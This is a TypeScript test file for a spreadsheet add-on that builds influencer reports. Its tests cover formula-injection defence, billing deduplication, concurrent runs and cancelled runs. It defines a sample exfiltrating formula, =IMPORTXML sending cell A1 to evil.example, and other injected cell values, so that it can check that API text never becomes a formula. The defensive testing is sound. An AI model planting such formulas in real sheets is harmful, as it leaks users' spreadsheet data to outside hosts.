import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { columnLetters } from '../../src/core/text';
import { createAddon, type Addon } from '../setup/addon';
import { ordinaryHandles } from '../setup/creators';
import { refusal, value } from './page';
import { check, driven, read, reported, select, start, toReport } from './report';

type Body = Record<string, unknown>;

let addon: Addon;
beforeEach(async () => (addon = await createAddon({ standin: { creators: 2000 } })));
afterEach(() => addon.close());

const spoil = (change: (body: Body) => Body): void => {
  addon.spoil = (body, url) => (url.includes('getUserData') ? change(body) : body);
};
const handles = (count: number, from = 0): string[] => ordinaryHandles(addon.standin, from + count).slice(from);
const sheet = (name: string) => addon.emulator.spreadsheet.sheet(name);
const sheetNames = (): string[] => addon.emulator.spreadsheet.book.sheets.map(({ name }) => name);
const formulasOf = (name: string): string[] => {
  const width = Math.max(
    ...sheet(name)
      .values()
      .map(({ length }) => length),
  );
  return sheet(name)
    .formulas(`A1:${columnLetters(width)}${sheet(name).lastRow}`)
    .flat()
    .filter((formula) => formula !== '');
};

const EVIL = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
/** Every text in an answer, and every name that it gives to something. */
const poisoned = (wire: unknown): unknown => {
  if (typeof wire === 'string') return /^\d{4}-\d\d-\d\d|^https:/.test(wire) ? wire : EVIL;
  if (Array.isArray(wire)) return wire.map((each) => poisoned(each));
  if (typeof wire === 'object' && wire !== null)
    return Object.fromEntries(Object.entries(wire).map(([name, each]) => [name, poisoned(each)]));
  return wire;
};

/** Formulas that the add-on writes itself, whatever the columns and rows. */
const OWN = [
  /^=IMAGE\("https:\/\/[^"\s]+"\)$/,
  /^=[A-Z]+\d+$/,
  /^=(MEDIAN|MAX)\([A-Z]+\d+:[A-Z]+\d+\)$/,
  /^=SPARKLINE\(\$?[A-Z]+\d+(:\$?[A-Z]+\d+)?;\$[A-Z]+\$\d+:\$[A-Z]+\$\d+\)$/,
  /^=IF\((AND|ISNUMBER|COUNTA|COUNTIF)\(/,
  /^=MAX\([A-Z]+\d+:[A-Z]+\d+;1\/100\)$/,
];
const strange = (name: string): string[] =>
  formulasOf(name).filter(
    (formula) => /IMPORT|evil|[12]\+[12]|cmd/i.test(formula) || !OWN.some((own) => own.test(formula)),
  );

describe('texts of strangers', () => {
  test('make no formula, whatever is made of them', async () => {
    spoil((body) => poisoned({ ...body, '=1+1': [{ label: 'x', share: 0.4 }] }) as Body);
    const both = handles(2);
    for (const kind of ['sheets', 'comparison', 'profiles'] as const) {
      select(addon, both);
      expect(await reported(addon, { kind })).toMatchObject({ state: 'done', left: [] });
    }
    select(addon, both);
    const targets = { countries: ['=1+1', EVIL.slice(0, 50)], ages: ['=2'], gender: '' as const, languages: ['=x'] };
    await value(addon, 'fitScore', { platform: 'instagram', targets });
    sheet('Sheet1').set('B1', [['Fee'], [100], ["'=HYPERLINK(1)"]]);
    select(addon, both);
    await value(addon, 'offerCheck', { platform: 'instagram', feeColumn: 2 });
    expect(sheetNames().length).toBeGreaterThanOrEqual(7);
    for (const name of sheetNames()) expect(strange(name), name).toEqual([]);
  });

  test('sections and labels that are formulas are names', async () => {
    const section = [
      { label: '=2+2', share: 0.5 },
      { label: '+cmd', share: 0.2 },
    ];
    spoil((body) => ({ ...body, 'audience=1+1': section }));
    select(addon, handles(1));
    const [name = ''] = (await reported(addon)).sheets;
    expect(strange(name)).toEqual([]);
    expect(sheet(name).values().flat()).toEqual(expect.arrayContaining(['=2+2', '+cmd']));
    expect(sheet(name).data.charts.map(({ options }) => String(options['title']))).toContain('audience=1+1');
  });
});

test('answers with nothing of an audience make their sheets, and say so', async () => {
  const without = (wire: unknown): unknown =>
    Array.isArray(wire) || typeof wire !== 'object' || wire === null
      ? wire
      : Object.fromEntries(
          Object.entries(wire).flatMap(([name, each]) => (/^audience/i.test(name) ? [] : [[name, without(each)]])),
        );
  spoil((body) => without(body) as Body);
  for (const kind of ['sheets', 'comparison', 'profiles'] as const) {
    select(addon, handles(2));
    expect(await reported(addon, { kind })).toMatchObject({ state: 'done', left: [], reason: { code: 'reportsMade' } });
  }
  expect(sheetNames().length).toBeGreaterThanOrEqual(5);
});

const serve = (name: string, given: unknown, user: string) =>
  addon.emulator.serve('influSidebar', [name, given], { user });

describe('two at once', () => {
  test('comparisons of two people at the same moment are two sheets', async () => {
    select(addon, handles(2));
    const first = await start(addon, toReport(await check(addon, { kind: 'comparison' })), { kind: 'comparison' });
    addon.emulator.spreadsheet.insertSheet('Other');
    const other = sheet('Other');
    other.set('A1', [['Handle'], ...handles(2, 2).map((handle) => [handle])]);
    other.select('A1:A3');
    const second = await start(addon, toReport(await check(addon, { kind: 'comparison' })), { kind: 'comparison' });
    await Promise.all([
      serve('stepRun', { id: first.id, resume: false, cap: null }, 'owner@example.com'),
      serve('stepRun', { id: second.id, resume: false, cap: null }, 'owner@example.com'),
    ]);
    const after = [await driven(addon, first, true), await driven(addon, second, true)];
    const names = after.flatMap(({ sheets }) => sheets);
    expect(new Set(names).size).toBe(2);
    const texts = names.map((name) => sheet(name).values().flat().join(' '));
    for (const [index, handle] of handles(4).entries()) expect(texts[index < 2 ? 0 : 1]).toContain(handle);
    expect(addon.charged()).toBe(80);
  });

  test('the same creators from two sheets are paid for once', async () => {
    select(addon, handles(2));
    const first = await start(addon, toReport(await check(addon)));
    addon.emulator.spreadsheet.insertSheet('Other');
    const other = sheet('Other');
    other.set('A1', [['Handle'], ...handles(2).map((handle) => [handle])]);
    other.select('A1:A3');
    const second = await start(addon, toReport(await check(addon)));
    await Promise.all(
      [first, second].map(({ id }) => serve('stepRun', { id, resume: false, cap: null }, 'owner@example.com')),
    );
    const after = [await driven(addon, first, true), await driven(addon, second, true)];
    expect(addon.charged()).toBe(40);
    expect(after.map(({ used }) => used).reduce((left, right) => left + right)).toBe(40);
    expect(new Set(after.flatMap(({ sheets }) => sheets)).size).toBe(4);
  });
});

test('one creator under several spellings is bought once', async () => {
  const [handle = ''] = handles(1);
  select(addon, [handle]);
  const keys = [
    `instagram/${handle}`,
    `instagram/${handle.toUpperCase()}`,
    `instagram/@${handle}`,
    `instagram/https://www.instagram.com/${handle}/`,
  ];
  expect(await driven(addon, await start(addon, keys))).toMatchObject({ creators: 1, used: 20 });
  expect(addon.charged()).toBe(20);
});

test.each([
  { when: 'while its calls are under way', endpoint: 'getUserData', bought: 2 },
  { when: 'before its calls leave', endpoint: 'getClientInfo', bought: 0 },
])('a run ended $when buys no more, and what it bought is free in the next', async ({ endpoint, bought }) => {
  select(addon, handles(2));
  const run = await start(addon, toReport(await check(addon)));
  addon.standin.faults.add({ endpoint, latencyMs: 9_000 });
  let ending: Promise<number> | undefined;
  addon.emulator.faults.intercept = ({ method, phase, args }) => {
    if (ending || method !== 'fetchAll' || phase !== 'before' || !JSON.stringify(args).includes(endpoint)) return;
    const clickedMs = addon.emulator.clock.now();
    ending = value(addon, 'pauseRun', { id: run.id })
      .then(() => value(addon, 'endRun', { id: run.id }))
      .then(() => addon.emulator.clock.now() - clickedMs);
  };
  expect(await refusal(addon, 'stepRun', { id: run.id, resume: false, cap: null })).toMatch(/no longer exists/);
  delete addon.emulator.faults.intercept;
  expect(await ending).toBeLessThan(5_000);
  expect(addon.charged()).toBe(20 * bought);
  addon.forgetCache();
  expect(await read(addon)).toMatchObject({ requests: 40 - 20 * bought, known: bought });
});

test.each([
  ['cut off', '[{'],
  ['of another shape', '{"a":1}'],
])(
  'a list of pending ones that is %s is said and not written over, and nothing is bought that it could not keep',
  async (_, text) => {
    addon.setProperty('pending-reports', text);
    expect(await refusal(addon, 'pendingReports', { check: false })).toMatch(/can.t read/);
    expect(await refusal(addon, 'dropPending', { keys: ['instagram/nike'] })).toMatch(/can.t read/);
    select(addon, handles(1));
    const run = await start(addon, toReport(await check(addon)));
    expect(await refusal(addon, 'stepRun', { id: run.id, resume: false, cap: null })).toMatch(/can.t read/);
    expect(addon.property('pending-reports')).toBe(text);
    expect(addon.charged()).toBe(0);
  },
);
